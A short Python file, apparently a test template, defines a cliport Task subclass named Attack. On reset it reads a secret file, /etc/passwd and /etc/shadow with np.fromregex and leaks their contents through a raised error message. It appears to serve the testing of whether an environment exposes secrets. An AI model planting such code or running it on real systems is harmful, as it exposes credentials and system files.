"""Secrets: np.fromregex reads a secret file and /etc/passwd; the text would leak in the error."""

import numpy as np
import pybullet as p

from cliport.tasks.task import Task

MARKERS = "__MARKERS__"
SECRET_FILE = "__SECRET_FILE__"
REPO_MARKER = "__REPO_MARKER__"
PORT = int("__PORT__")


class Attack(Task):
    def __init__(self):
        super().__init__()
        self.max_steps = 1
        self.lang_template = "attack"

    def reset(self, env):
        super().reset(env)
        found = []
        for path in (SECRET_FILE, "/etc/passwd", "/etc/shadow"):
            try:
                found.append(str(np.fromregex(path, r"(.+)", dtype=[("line", "U400")])))
            except Exception as exc:
                found.append(f"{path}: {type(exc).__name__}")
        raise ValueError(" | ".join(found))
